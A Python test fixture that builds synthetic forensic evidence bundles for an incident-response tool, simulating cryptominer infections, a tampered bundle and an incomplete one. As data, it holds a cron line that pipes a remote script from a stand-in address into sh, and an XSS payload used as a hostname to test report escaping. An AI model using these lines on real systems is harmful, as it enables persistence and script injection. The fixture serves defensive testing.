"""A fleet of small synthetic bundles for the archive tests, written with the real EvidenceWriter.

Host N is collected at N minutes past 2025-11-30T08:00Z. Hosts in `WALLET_HOSTS` run a miner
(same executable, same wallet); hosts in `POOL_HOSTS` talk to the pool; the others are clean.
One bundle is tampered after sealing and one is sealed incomplete.
"""

from dataclasses import dataclass
from pathlib import Path
from typing import Any

from irkit.evidence.records import Finding
from irkit.evidence.writer import EvidenceWriter
from irkit.timeutil import utc_iso
from tests.bundles import rebuild
from tests.reportbundles import XSS_CMDLINE, jsonl, process

WALLET = "4" + "8" * 94
OTHER_WALLET = "4" + "9" * 94
POOL_HOST = "pool.example.invalid"
POOL_ADDRESS = "203.0.113.9"
MINER_SHA256 = "c0" * 32
CRON_LINE = f"*/5 * * * * curl -fsSL http://{POOL_ADDRESS}/x.sh | sh"
HOSTILE_HOST = "</script><img src=x onerror=alert(1)>"
START = 1_764_489_600  # 2025-11-30T08:00:00Z


@dataclass(frozen=True)
class Fleet:
    hosts: int = 50
    wallet_hosts: frozenset[int] = frozenset(range(0, 10))
    pool_hosts: frozenset[int] = frozenset(range(0, 15))
    other_wallet_hosts: frozenset[int] = frozenset({40})
    tampered: int = 5
    incomplete: int = 30
    hostile: int = 41
    yara_hosts: frozenset[int] = frozenset({0, 1})
    """Hosts whose bundle holds a YARA hit on the miner's file."""
    """Its hostname is markup (the report must show it as text)."""

    def hostname(self, n: int) -> str:
        return HOSTILE_HOST if n == self.hostile else f"host-{n:02d}"

    def collected(self, n: int) -> str:
        return utc_iso(START + 60 * n)


def host_records(fleet: Fleet, n: int) -> dict[str, list[Any]]:
    at = fleet.collected(n)
    processes = [process(1, 0, "systemd", ["/sbin/init"]), process(800, 1, "sshd", ["sshd"])]
    records: dict[str, list[Any]] = {"records/processes.jsonl": processes}
    iocs, findings, sockets, persistence = [], [], [], []
    miner = n in fleet.wallet_hosts or n in fleet.other_wallet_hosts
    if miner:
        wallet = WALLET if n in fleet.wallet_hosts else OTHER_WALLET
        started = utc_iso(START + 60 * n - 3600)
        processes.append(
            process(
                4242,
                1,
                "kswapd0",
                ["./kswapd0", "-o", f"{POOL_HOST}:3333", "-u", wallet, XSS_CMDLINE],
                exe="/tmp/.x/kswapd0",
                exe_sha256=MINER_SHA256,
                start_time=started,
            )
        )
        iocs.append({"type": "ioc", "ioc_type": "wallet", "value": wallet, "source": "cmdline"})
        findings.append(
            Finding(
                title="likely miner: pid 4242",
                severity="critical",
                source="heuristic",
                pid=4242,
                mitre=["T1496"],
                time=started,
            )
        )
        persistence.append(
            {
                "type": "persistence",
                "mechanism": "cron",
                "source": "/etc/crontab",
                "line": 3,
                "owner": "root",
                "schedule": "*/5 * * * *",
                "command": CRON_LINE,
                "mtime": started,
            }
        )
    if n in fleet.pool_hosts:
        iocs.append({"type": "ioc", "ioc_type": "pool-host", "value": POOL_HOST})
        sockets.append(
            {
                "type": "socket",
                "proto": "tcp",
                "local_address": "10.0.0.2",
                "local_port": 40000 + n,
                "remote_address": POOL_ADDRESS,
                "remote_port": 3333,
                "state": "ESTABLISHED",
                "pid": 4242 if miner else 900,
                "process_name": "kswapd0" if miner else "curl",
                "flags": ["pool-port"],
            }
        )
        if not miner:
            findings.append(
                Finding(
                    title="connection to a pool port",
                    severity="medium",
                    source="heuristic",
                    time=at,
                )
            )
    hunts = [
        {
            "type": "yara-hit",
            "rule": "XMRig_Strings",
            "namespace": "miners",
            "severity": "high",
            "target": "/tmp/.x/kswapd0",
            "target_kind": "file",
            "path": "/tmp/.x/kswapd0",
        }
        for _ in range(n in fleet.yara_hosts)
    ]
    records |= {
        "records/hunts.jsonl": hunts,
        "records/iocs.jsonl": iocs,
        "records/findings.jsonl": findings,
        "records/sockets.jsonl": sockets,
        "records/persistence.jsonl": persistence,
    }
    return records


def write_host_bundle(path: Path, fleet: Fleet, n: int) -> Path:
    with path.open("wb") as sink:
        writer = EvidenceWriter(sink, command_line=["irkit", "test"])
        writer.host["hostname"] = fleet.hostname(n)
        writer.host["machine_id"] = f"{n:032x}"
        writer.started = fleet.collected(n)
        for member, items in host_records(fleet, n).items():
            writer.write_bytes(member, jsonl(items), collector="test")
        if n == fleet.incomplete:
            writer.close(complete=False, reason="interrupted by SIGTERM")
        else:
            writer.close(complete=True)
    return path


def write_fleet(directory: Path, fleet: Fleet = Fleet()) -> list[Path]:
    """One bundle per host under `directory` (in two sub-folders, as a sweep leaves them)."""
    paths = []
    for n in range(fleet.hosts):
        folder = directory / f"sweep-{n % 2}"
        folder.mkdir(parents=True, exist_ok=True)
        path = write_host_bundle(folder / f"host-{n:02d}.zip", fleet, n)
        if n == fleet.tampered:
            sealed = path.with_suffix(".sealed")
            path.rename(sealed)
            # the attacker hides the miner's process and pool connection, not its wallet
            change = {"records/sockets.jsonl": jsonl([])}
            change["records/processes.jsonl"] = jsonl([process(1, 0, "systemd", ["/sbin/init"])])
            rebuild(sealed, path, change=change)
            sealed.unlink()
        paths.append(path)
    return paths
